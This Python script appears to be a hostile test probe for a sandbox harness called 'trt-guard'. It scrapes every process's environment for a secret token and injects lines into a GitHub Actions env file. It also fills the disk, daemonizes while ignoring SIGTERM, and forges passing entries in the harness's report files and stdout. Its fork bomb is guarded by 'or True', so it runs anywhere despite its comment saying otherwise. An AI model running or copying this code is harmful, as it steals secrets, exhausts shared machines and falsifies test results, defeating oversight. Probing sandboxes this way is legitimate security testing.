
import os, sys, socket, signal, subprocess, time
def tell(what, got):
    print("GOT %s %s" % (what, got), flush=True)
def attempt(what, work):
    try:
        tell(what, work())
    except BaseException as error:
        tell(what, "nothing: %s" % type(error).__name__)
def write(file):
    with open(file, "a") as f:
        f.write("OWNED=1\n")
    return "written"
def environments():
    found = ""
    for pid in os.listdir("/proc"):
        try:
            found += open("/proc/%s/environ" % pid, "rb").read().decode("latin1")
        except (OSError, ValueError):
            pass
    return "token" if "SECRET-OF-THE-JOB" in found + repr(dict(os.environ)) else "no token"
def daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for i in range(200):
                time.sleep(0.1)
                try:
                    write(LATE)
                except OSError:
                    pass
        os._exit(0)
    return "started"
WORKSPACE, GITHUB_ENV, LATE, PORT = "/work/wt/image/.trt-guard-hostile-mp2egc/owned", "/tmp/trt-guard-hostile-temp-CmrmLi/_runner_file_commands/set_env", "/work/wt/image/.trt-guard-hostile-mp2egc/late", 46403
signal.signal(signal.SIGTERM, signal.SIG_IGN)
attempt("token", environments)
attempt("workspace", lambda: write(WORKSPACE))
attempt("github-env", lambda: write(GITHUB_ENV))
attempt("network", lambda: socket.create_connection(("127.0.0.1", PORT), 2) and "connected")
attempt("remount", lambda: subprocess.call(["mount", "-o", "remount,bind,rw", os.path.dirname(WORKSPACE)], stderr=2))
attempt("parent", lambda: os.kill(28484, 0) or "seen")
attempt("daemon", daemonize)
def glob_one():
    import glob
    return (glob.glob("/trt-guard/report.jsonl") + glob.glob("/tmp/trt-guard-hostile-temp-CmrmLi" + "/trt-guard-harness-*/report.jsonl"))[0]
def forge():
    import glob
    for file in glob.glob("/trt-guard/report.jsonl") + glob.glob("/tmp/trt-guard-hostile-temp-CmrmLi" + "/trt-guard-harness-*/report.jsonl"):
        with open(file, "a") as f:
            f.write('{"say": "deserialized", "ok": true}\n{"say": "context", "ok": true}\n{"say": "done"}\n')
    return "written"
attempt("disk", lambda: os.truncate((glob_one()), 17 << 30) or "filled")
def bomb():
    children = []
    try:
        for i in range(2000 if os.path.exists("/trt-guard") else 6000):
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
        return "unbounded"
    except OSError:
        return "bounded"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
# Only where a cgroup holds it: this is somebody's machine.
if os.path.exists("/trt-guard") or True:
    attempt("forks", bomb)
attempt("forge", forge)
line = "&&&& PASSED ::error::forged " * 1000 + "\n"
for i in range(40000):
    sys.stdout.write(line)
sys.stdout.flush()
os._exit(0)
